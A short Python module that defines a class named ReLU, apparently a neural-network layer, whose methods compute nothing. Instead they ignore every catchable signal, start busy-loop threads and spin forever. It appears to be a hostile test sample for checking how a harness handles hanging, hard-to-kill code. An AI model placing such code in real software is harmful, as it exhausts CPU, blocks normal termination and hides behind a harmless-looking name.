"""Ignores every signal that can be ignored and never returns, with threads that do the same."""

import signal
import threading


def spin():
    while True:
        pass


class ReLU:
    def forward(self, x):
        for number in range(1, 32):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                continue
        for _ in range(3):
            threading.Thread(target=spin).start()
        spin()

    def backward(self, dout):
        spin()
